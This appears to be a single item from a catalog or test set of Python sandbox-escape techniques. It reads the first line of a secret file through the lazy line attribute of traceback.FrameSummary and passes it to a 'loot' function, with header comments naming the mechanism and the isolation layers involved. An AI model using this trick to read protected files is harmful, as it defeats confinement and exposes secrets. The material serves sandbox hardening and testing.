# aim: read a line of a file by the lazy attribute of a frame summary
# mechanism: traceback.FrameSummary.line looks lines up by file name
# language: view
# reason: source lines are never looked up by a name the program chose
# jail: mount namespace, landlock
# plain: loot

import traceback

loot(traceback.FrameSummary(secret_path, 1, "name").line)
